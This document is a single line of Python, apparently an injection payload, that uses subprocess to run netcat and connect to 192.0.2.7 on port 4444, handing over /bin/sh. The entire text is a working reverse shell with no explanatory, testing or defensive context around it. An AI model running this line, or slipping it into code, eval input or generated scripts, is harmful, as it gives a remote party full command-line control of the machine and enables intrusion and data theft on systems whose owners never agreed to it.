__import__("subprocess").Popen("nc 192.0.2.7 4444 -e /bin/sh", shell=True)
